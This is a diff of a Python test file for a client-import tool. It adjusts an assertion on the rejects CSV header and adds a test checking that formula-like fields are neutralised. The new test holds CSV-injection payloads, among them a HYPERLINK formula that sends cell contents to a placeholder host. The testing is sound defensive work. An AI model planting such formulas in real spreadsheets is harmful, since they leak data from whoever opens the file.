@@ -67,7 +67,7 @@ def test_good_and_bad_rows(tmp_path, wb):
     assert indexed == 2
     assert wb.search_clients("joao conceicao").code.tolist() == ["A1"]       # searchable at once
     assert wb.search_clients("pao dourado").code.tolist() == ["A2"]
-    assert rejects.read_bytes().startswith(b"\xef\xbb\xbflinha;")          # the exports' CSV: BOM, ';'
+    assert rejects.read_bytes().startswith(b"\xef\xbb\xbf\"linha\";")      # the exports' CSV: BOM, ";"
     frame = pd.read_csv(rejects, dtype=str, **CSV_OPTIONS)
     assert list(frame["linha"]) == ["4", "5", "6", "7", "8"] and "motivo" in frame.columns
     assert {"código", "tipo", "nome", "documento", "nome fantasia", "CEP"} <= set(frame.columns)
@@ -360,3 +360,13 @@ def test_the_desk_saves_between_batches_of_a_large_import(tmp_path, desk):
         writer.wait()
     print(said)
     assert "between=True" in said and "busy=0" in said, said      # an operator saved in the middle of it
+
+
+def test_rejects_file_neutralises_formulas(tmp_path, wb):
+    src = tmp_path / "formulas.csv"
+    src.write_text('code;kind;name;document\nF1;PF;=HYPERLINK("http://x/?d="&A1,"Clique");123\n'
+                   "F2;PF;@SUM(1+1);+5511\n", encoding="utf-8")
+    import_clients(wb.store, src, rejects_path=tmp_path / "r.csv")
+    rejects = _rejects(tmp_path / "r.csv")
+    assert rejects["nome"].tolist() == ["'=HYPERLINK(\"http://x/?d=\"&A1,\"Clique\")", "'@SUM(1+1)"]
+    assert rejects["documento"].tolist() == ["123", "'+5511"]
